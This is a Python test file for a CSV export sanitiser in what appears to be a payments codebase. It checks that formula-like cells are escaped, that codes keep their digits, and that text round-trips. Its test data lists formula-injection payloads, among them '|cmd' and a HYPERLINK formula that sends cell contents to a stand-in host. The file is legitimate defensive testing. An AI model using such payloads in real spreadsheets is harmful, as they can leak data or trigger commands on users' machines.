"""A cell is what was written into it: never a formula, never a number that was a code."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pagoefectivo.domain.spreadsheets import BYTE_ORDER_MARK, Cell, csv_lines, plain_text

FORMULAS = (
    *(
        "=1+1",
        "+51 1 234",
        "-2+3",
        "@SUM(A1)",
        "|cmd",
        "%0A=1",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
    ),
    *('=HYPERLINK("http://x.example?"&A1)', "\u00a0=1"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_G09_what_looks_like_a_formula_is_text(text: str) -> None:
    assert plain_text(text) == f"'{text}"


@pytest.mark.parametrize("code", ["00123456", "1234567890123456", "12E5"])
def test_a_code_keeps_its_zeros_and_its_last_digits(code: str) -> None:
    assert plain_text(code) == f"'{code}"


@pytest.mark.parametrize("text", ["", "A-1042", "Pedido 5 = dos cafés", "30012345", "María Quispe", "a@b.pe", "0"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert plain_text(text) == text


def test_numbers_are_numbers_and_instants_are_limas() -> None:
    rows: list[list[Cell]] = [[Decimal("-89.90"), 3, None, datetime(2026, 11, 24, 3, 5, tzinfo=UTC), 'a "b", c']]
    text = "".join(csv_lines(["amount", "count", "none", "at", "note"], rows))
    assert text == (
        f'{BYTE_ORDER_MARK}"amount","count","none","at","note"\r\n-89.90,3,"","2026-11-23 22:05:00","a ""b"", c"\r\n'
    )


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_every_text_comes_back_whole_in_its_own_cell(texts: list[str]) -> None:
    lines = list(csv_lines(["x"], [texts]))
    (read,) = csv.reader(io.StringIO(lines[1], newline=""))
    assert [
        cell.removeprefix("'") if plain_text(text) != text else cell for cell, text in zip(read, texts, strict=True)
    ] == texts
    assert not any(cell.lstrip()[:1] in {*"=+-@"} - {""} for cell in read if cell.strip())
